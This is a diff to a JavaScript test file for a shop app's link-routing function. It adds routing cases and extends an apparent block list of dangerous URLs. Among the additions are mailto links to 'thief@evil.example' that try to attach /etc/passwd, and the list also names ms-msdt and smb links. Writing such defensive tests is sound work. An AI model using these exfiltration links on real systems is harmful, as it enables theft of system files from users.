@@ -19,6 +19,14 @@ test.each([
   [`${inside}/product/dragon?variant=1`, { is: 'shop', url: 'https://shop.example/product/dragon?variant=1' }],
   ['https://shop.example/about', { is: 'shop', url: 'https://shop.example/about' }],
   ['https://paint.example/guide', { is: 'elsewhere', url: 'https://paint.example/guide' }],
+  [
+    'https://shop.example/api/desktop/authorize?a=b',
+    { is: 'elsewhere', url: 'https://shop.example/api/desktop/authorize?a=b' },
+  ],
+  [
+    'mailto:maker@shop.example?Subject=A%20dragon&body=x',
+    { is: 'elsewhere', url: 'mailto:maker@shop.example?Subject=A%20dragon&body=x' },
+  ],
   ['mailto:maker@shop.example', { is: 'elsewhere', url: 'mailto:maker@shop.example' }],
 ])('checklist: %s leads where it should', (address, way) => {
   expect(wayTo(address, here, 'in place')).toEqual(way)
@@ -42,6 +50,8 @@ test.each([
   'blob:app://shop-0123456789abcdef/1',
   'smb://nas/share',
   'ms-msdt:/id',
+  'mailto:thief@evil.example?attach=/etc/passwd',
+  'mailto:thief@evil.example?subject=x&Attachment=file:///etc/passwd',
   'hoard://open/page/1',
   'about:blank',
   '//evil.example',
